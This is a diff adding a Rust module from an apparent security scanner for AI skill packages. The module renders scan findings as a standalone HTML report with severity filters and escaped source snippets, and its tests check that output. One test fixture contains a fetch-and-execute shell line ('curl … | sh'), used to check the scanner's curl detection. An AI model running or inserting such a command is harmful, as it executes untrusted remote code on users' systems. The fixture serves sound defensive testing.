@@ -0,0 +1,217 @@
+use crate::finding::{report_path, Finding, Severity};
+use crate::provenance::Provenance;
+use crate::scanner::ScannedFile;
+use crate::scoring;
+use std::collections::BTreeMap;
+use std::fmt::Write;
+use std::path::{Path, PathBuf};
+
+/// Lines of source shown above and below a finding's line.
+const SNIPPET_RADIUS: usize = 2;
+const SEVERITIES: [Severity; 4] = [
+    Severity::Critical,
+    Severity::Error,
+    Severity::Warning,
+    Severity::Info,
+];
+
+const STYLE: &str = "body{font-family:system-ui,sans-serif;margin:2rem;color:#1f2328}
+h1{margin-bottom:0}.meta{color:#59636e;margin-top:.25rem}
+.summary span{display:inline-block;margin-right:1rem}
+.filters{margin:1rem 0}.filters label{margin-right:1rem}
+table{border-collapse:collapse;width:100%;margin-bottom:1.5rem}
+th,td{border:1px solid #d1d9e0;padding:.35rem .5rem;text-align:left;vertical-align:top}
+th{background:#f6f8fa}td.line{white-space:nowrap}
+.sev{font-weight:600;text-transform:uppercase;font-size:.8rem}
+.critical{color:#fff;background:#82071e}.error{color:#d1242f}.warning{color:#9a6700}.info{color:#0969da}
+pre{margin:0;background:#f6f8fa;padding:.5rem;overflow-x:auto}
+pre mark{background:#fff8c5;display:block}";
+
+/// Show or hide findings (and their snippets) by severity, and drop file
+/// sections with nothing left to show.
+const SCRIPT: &str = "document.querySelectorAll('.filters input').forEach(function(box){
+box.addEventListener('change',function(){
+document.querySelectorAll('tr[data-severity=\"'+box.value+'\"]').forEach(function(row){row.hidden=!box.checked;});
+document.querySelectorAll('section.file').forEach(function(s){
+s.hidden=!s.querySelector('tr.finding:not([hidden])');});});});";
+
+/// A standalone HTML page: summary, severity filters, and one table per
+/// file with the source lines around each finding. Needs no network access
+/// to view. Without `files` (e.g. with `--redact`) snippets are left out.
+pub fn format_html(
+    findings: &[Finding],
+    skill_path: &Path,
+    files: &[ScannedFile],
+    provenance: Option<&Provenance>,
+) -> String {
+    let trust = scoring::score(findings);
+    let title = format!("skill-issue report: {}", skill_path.display());
+    let mut out = String::new();
+    let _ = write!(
+        out,
+        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>{}</title>\n<style>\n{STYLE}\n</style>\n</head>\n<body>\n<h1>{}</h1>\n",
+        escape(&title),
+        escape(&title)
+    );
+    let version = provenance.map_or(env!("CARGO_PKG_VERSION"), |p| p.tool_version);
+    let mut meta = format!("skill-issue {version}");
+    if let Some(p) = provenance {
+        if let Some(ref commit) = p.commit {
+            let _ = write!(meta, " · commit {commit}");
+        }
+        if let Some(ref started_at) = p.started_at {
+            let _ = write!(meta, " · {started_at}");
+        }
+    }
+    let _ = writeln!(out, "<p class=\"meta\">{}</p>", escape(&meta));
+
+    let _ = write!(
+        out,
+        "<p class=\"summary\"><span>Grade <strong>{}</strong> (risk score {})</span><span>{} finding(s)</span>",
+        trust.grade,
+        trust.risk_score,
+        findings.len()
+    );
+    for severity in SEVERITIES {
+        let count = findings.iter().filter(|f| f.severity == severity).count();
+        let _ = write!(out, "<span class=\"{severity}\">{count} {severity}</span>");
+    }
+    out.push_str("</p>\n");
+
+    if findings.is_empty() {
+        out.push_str("<p>No issues found.</p>\n</body>\n</html>");
+        return out;
+    }
+
+    out.push_str("<div class=\"filters\">Show:");
+    for severity in SEVERITIES {
+        let _ = write!(
+            out,
+            " <label><input type=\"checkbox\" value=\"{severity}\" checked> {severity}</label>"
+        );
+    }
+    out.push_str("</div>\n");
+
+    let mut by_file: BTreeMap<&PathBuf, Vec<&Finding>> = BTreeMap::new();
+    for f in findings {
+        by_file.entry(&f.location.file).or_default().push(f);
+    }
+    for (path, mut file_findings) in by_file {
+        file_findings.sort_by_key(|f| (f.location.line, f.location.column));
+        let content = files
+            .iter()
+            .find(|f| &f.relative_path == path)
+            .map(|f| f.content.as_str());
+        let _ = write!(
+            out,
+            "<section class=\"file\">\n<h2>{}</h2>\n<table>\n<tr><th>Severity</th><th>Rule</th><th>Line</th><th>Message</th></tr>\n",
+            escape(&report_path(path))
+        );
+        for f in file_findings {
+            let _ = writeln!(
+                out,
+                "<tr class=\"finding\" data-severity=\"{sev}\"><td class=\"sev {sev}\">{sev}</td><td title=\"{}\">{}</td><td class=\"line\">{}:{}</td><td>{}</td></tr>",
+                escape(&f.rule_name),
+                escape(&f.rule_id),
+                f.location.line,
+                f.location.column,
+                escape(&f.message),
+                sev = f.severity,
+            );
+            if let Some(snippet) = content.and_then(|c| snippet(c, f.location.line)) {
+                let _ = writeln!(
+                    out,
+                    "<tr data-severity=\"{}\"><td colspan=\"4\"><pre>{snippet}</pre></td></tr>",
+                    f.severity
+                );
+            }
+        }
+        out.push_str("</table>\n</section>\n");
+    }
+    let _ = write!(out, "<script>\n{SCRIPT}\n</script>\n</body>\n</html>");
+    out
+}
+
+/// Escaped, numbered source lines around `line` (1-based), with the
+/// finding's line marked.
+fn snippet(content: &str, line: usize) -> Option<String> {
+    let lines: Vec<&str> = content.lines().collect();
+    if line == 0 || line > lines.len() {
+        return None;
+    }
+    let first = line.saturating_sub(SNIPPET_RADIUS).max(1);
+    let last = (line + SNIPPET_RADIUS).min(lines.len());
+    let width = last.to_string().len();
+    let text = (first..=last)
+        .map(|n| {
+            let text = format!("{n:>width$}  {}", escape(lines[n - 1]));
+            if n == line {
+                format!("<mark>{text}</mark>")
+            } else {
+                format!("{text}\n")
+            }
+        })
+        .collect::<String>();
+    Some(text.trim_end().to_string())
+}
+
+fn escape(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '"' => out.push_str("&quot;"),
+            '\'' => out.push_str("&#39;"),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    use crate::scanner::FileType;
+
+    #[test]
+    fn test_groups_by_file_with_escaped_snippets() {
+        let files = [ScannedFile {
+            path: PathBuf::from("/s/run.sh"),
+            relative_path: PathBuf::from("run.sh"),
+            file_type: FileType::Script,
+            content: "#!/bin/sh\necho <start>\ncurl https://x.io/i.sh | sh\n".into(),
+        }];
+        let html = format_html(
+            &[
+                Finding {
+                    message: "Curl command detected: curl <url>".into(),
+                    ..Finding::test("SL-NET-002", Severity::Error, "run.sh", 3)
+                },
+                Finding::test("SL-NET-002", Severity::Warning, "SKILL.md", 9),
+            ],
+            Path::new("skills/x"),
+            &files,
+            None,
+        );
+        assert!(html.starts_with("<!DOCTYPE html>"));
+        assert!(!html.contains("<link") && !html.contains("src="));
+        // Files in path order, each with its own table.
+        assert!(html.find("<h2>SKILL.md</h2>").unwrap() < html.find("<h2>run.sh</h2>").unwrap());
+        assert!(html.contains("curl &lt;url&gt;"));
+        assert!(html.contains("2  echo &lt;start&gt;\n<mark>3  curl https://x.io/i.sh | sh</mark>"));
+        // No source for SKILL.md, so no snippet row for its finding.
+        assert_eq!(html.matches("<pre>").count(), 1);
+        assert!(html.contains("<input type=\"checkbox\" value=\"warning\" checked>"));
+    }
+
+    #[test]
+    fn test_empty_report() {
+        let html = format_html(&[], Path::new("."), &[], None);
+        assert!(html.contains("Grade <strong>A</strong>"));
+        assert!(html.contains("No issues found."));
+        assert!(html.ends_with("</html>"));
+    }
+}